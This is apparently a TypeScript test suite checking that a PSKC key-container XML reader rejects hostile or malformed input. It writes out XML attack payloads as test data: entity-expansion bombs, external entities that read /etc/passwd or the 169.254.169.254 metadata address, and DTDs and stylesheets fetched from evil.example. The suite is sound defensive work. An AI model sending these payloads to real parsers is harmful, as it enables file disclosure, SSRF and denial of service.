import { describe, expect, test } from 'vitest';
import { processorMs } from '../../../testing/processor-time.ts';
import { figure, outcomesOf, readWhole } from '../testing/read-whole.ts';

const SEED = Buffer.from('12345678901234567890').toString('hex');
const BODY = figure(3).replace(/^<\?xml[^>]*>\s*/, '');
const read = (xml: string | Uint8Array) => outcomesOf(readWhole(xml, { format: 'pskc' }));
const inSeed = (text: string) => BODY.replace('MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', text);

test('accepts the document that the others are based on', () => {
  expect(read(BODY)).toEqual([SEED]);
});

describe('document types and entities', () => {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  test.each([
    ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>${inSeed('&l9;')}`],
    ['quadratic blow-up', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>${inSeed('&a;'.repeat(1000))}`],
    ['an external entity', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${inSeed('&f;')}`],
    ['an external entity over http', `<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]>${inSeed('&f;')}`],
    ['a parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${BODY}`],
    ['an external DTD', `<!DOCTYPE KeyContainer SYSTEM "http://evil.example/pskc.dtd">${BODY}`],
    ['a DTD with default attributes', `<!DOCTYPE x [<!ATTLIST Key Algorithm CDATA "x">]>${BODY}`],
    ['an empty DTD', `<!DOCTYPE x>${BODY}`],
    ['a style sheet', `<?xml-stylesheet href="http://evil.example/"?>${BODY}`],
    ['an instruction in the middle of a value', inSeed('MTIzNDU2<?x y?>Nzg5MDEyMzQ1Njc4OTA=')],
  ])('%s', (_, xml) => expect(read(xml)).toBe('XML_DOCTYPE'));

  test.each([
    ['an undeclared entity', inSeed('&secret;')],
    ['a reference to a character that is none', inSeed('&#x0;')],
    ['a document type after the root has begun', BODY.replace('<KeyPackage>', '<!DOCTYPE x><KeyPackage>')],
    ['an end that does not fit', BODY.replace('</KeyPackage>', '</KeyPackages>')],
    ['no end', BODY.slice(0, -20)],
    ['something after the end', `${BODY}<KeyContainer/>`],
    ['an attribute twice', BODY.replace('Id="12345678"', 'Id="12345678" Id="2"')],
    [
      'an attribute twice by two prefixes',
      BODY.replace('<Key ', '<Key xmlns:a="urn:u" xmlns:b="urn:u" a:x="" b:x="" '),
    ],
    ['an undeclared prefix', BODY.replace('<KeyPackage>', '<p:x/><KeyPackage>')],
    ['a control character', inSeed('MTIz\u0000')],
    ['XML 1.1', `<?xml version="1.1"?>${BODY}`],
    ['nothing but a root that begins', '<KeyContainer '],
    ['no XML', '<<<<'],
  ])('%s', (_, xml) => expect(read(xml)).toBe('XML_MALFORMED'));
});

describe('too much of everything', () => {
  test.each([
    ['depth', BODY.replace('<KeyPackage>', `<KeyPackage>${'<a>'.repeat(30)}${'</a>'.repeat(30)}`)],
    ['an attribute', BODY.replace('<Key ', `<Key x="${'x'.repeat(3000)}" `)],
    ['attributes', BODY.replace('<Key ', `<Key ${Array.from({ length: 30 }, (_, at) => `a${at}=""`).join(' ')} `)],
    ['a text', inSeed('A'.repeat(70_000))],
    ['elements in one package', BODY.replace('<KeyPackage>', `<KeyPackage>${'<a/>'.repeat(600)}`)],
  ])('%s', (_, xml) => expect(read(xml)).toBe('XML_OUT_OF_BOUNDS'));

  test('bytes', () => {
    expect(read(`${BODY}${' '.repeat(2 * 1024 * 1024)}`)).toBe('FILE_TOO_LARGE');
  });

  test('tokens', () => {
    const packages = `<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc">${'<KeyPackage/>'.repeat(10_001)}</KeyContainer>`;
    expect(read(packages)).toBe('TOO_MANY_ROWS');
  });
});

describe('values that parsers interpret differently', () => {
  test.each([
    ['a comment in the middle', 'MTIzNDU2<!-- -->Nzg5MDEyMzQ1Njc4OTA='],
    ['CDATA', '<![CDATA[MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=]]>'],
    ['CDATA in the middle', 'MTIzNDU2<![CDATA[Nzg5MDEyMzQ1Njc4OTA=]]>'],
    ['an element in the middle', 'MTIzNDU2<b/>Nzg5MDEyMzQ1Njc4OTA='],
  ])('%s', (_, text) => expect(read(inSeed(text))).toEqual(['PSKC_STRUCTURE']));

  test.each([
    ['two seeds', '</Secret>', '</Secret><Secret><PlainValue>MTIzNDU2Nzg5MDEyMzQ1Njc4OTE=</PlainValue></Secret>'],
    ['two values', '<PlainValue>M', '<PlainValue>MTIzNDU2Nzg5MDEyMzQ1Njc4OTE=</PlainValue><PlainValue>M'],
    ['two serial numbers', '</SerialNo>', '</SerialNo><SerialNo>1</SerialNo>'],
    ['two keys in a package', '<Key ', '<Key Id="1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp"/><Key '],
  ])('%s', (_, from, to) => expect(read(BODY.replace(from, to))).toEqual(['PSKC_STRUCTURE']));

  test('ignores a seed in another namespace', () => {
    expect(read(BODY.replace('<Secret>', '<Secret xmlns="urn:x">'))).toEqual(['SEED_MISSING']);
  });

  test('handles white space and character references as in XML', () => {
    expect(read(inSeed('\r\n MTIzNDU2Nzg5&#x4d;DEyMzQ1Njc4OTA= \t'))).toEqual([SEED]);
  });
});

describe('documents that are no containers', () => {
  test.each([
    ['another namespace', BODY.replace('keyprov:pskc"', 'keyprov:pskc:1.0"'), 'PSKC_UNKNOWN'],
    ['no namespace', BODY.replace(/xmlns="[^"]*"/, ''), 'PSKC_UNKNOWN'],
    ['another root', '<KeyPackage xmlns="urn:ietf:params:xml:ns:keyprov:pskc"/>', 'PSKC_UNKNOWN'],
    ['no version', BODY.replace('Version="1.0"', ''), 'PSKC_UNKNOWN'],
    ['version 2', BODY.replace('Version="1.0"', 'Version="2.0"'), 'PSKC_UNKNOWN'],
    ['an unknown part', BODY.replace('<KeyPackage>', '<Other/><KeyPackage>'), 'PSKC_STRUCTURE'],
    ['nothing in it', BODY.replace(/<KeyPackage>[\s\S]*<\/KeyPackage>/, ''), 'FILE_EMPTY'],
    ['HTML', '<html><body>Not found</body></html>', 'PSKC_UNKNOWN'],
  ])('%s', (_, xml, flaw) => expect(read(xml)).toBe(flaw));

  test('version 1.1 may have additions', () => {
    expect(read(BODY.replace('Version="1.0"', 'Version="1.1"'))).toEqual([SEED]);
  });
});

describe('encodings', () => {
  test('skips a byte order mark', () => {
    expect(read(`\ufeff${figure(3)}`)).toEqual([SEED]);
  });

  test.each([
    ['UTF-16 with a mark', Buffer.from(`\ufeff${figure(3)}`, 'utf16le')],
    ['UTF-7 that is declared', Buffer.from(figure(3).replace('UTF-8', 'UTF-7'))],
    ['another that is declared', Buffer.from(figure(3).replace('UTF-8', 'ISO-8859-1'))],
    ['bytes that are none', Buffer.concat([Buffer.from(BODY), Buffer.from([0xc3, 0x28])])],
  ])('%s', (_, bytes) => expect(read(bytes)).toBe('NOT_UTF8'));

  test('refuses UTF-16 without a byte order mark', () => {
    expect(read(Buffer.from(figure(3), 'utf16le'))).toBe('XML_MALFORMED');
  });
});

describe('two mebibytes', () => {
  const filler = (piece: string) => piece.repeat(Math.floor((2 * 1024 * 1024 - BODY.length - 100) / piece.length));
  test.each([
    ['comments', BODY.replace('<KeyPackage>', `${filler('<!---->')}<KeyPackage>`)],
    ['space', BODY.replace('<KeyPackage>', `${filler(' ')}<KeyPackage>`)],
    ['one comment', BODY.replace('<KeyPackage>', `<!--${filler('x')}--><KeyPackage>`)],
    ['a name that does not end', `<${filler('x')}`],
    ['an attribute that does not end', `<a b="${filler('x')}`],
    ['a document type that does not end', `<!DOCTYPE a [${filler('<!ENTITY a "b">')}`],
    ['references', inSeed(filler('&#65;'))],
    [
      'declarations',
      BODY.replace('<Key ', `<Key ${Array.from({ length: 60_000 }, (_, at) => `xmlns:a${at}="urn:${at}"`).join(' ')} `),
    ],
    [
      'packages',
      `<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc">${filler('<Extensions><a/></Extensions>')}`,
    ],
  ])('of %s are read or refused within seconds', async (_, xml) => {
    expect(xml.length).toBeLessThanOrEqual(2 * 1024 * 1024);
    expect(await processorMs(() => read(xml))).toBeLessThan(5000);
  });
});
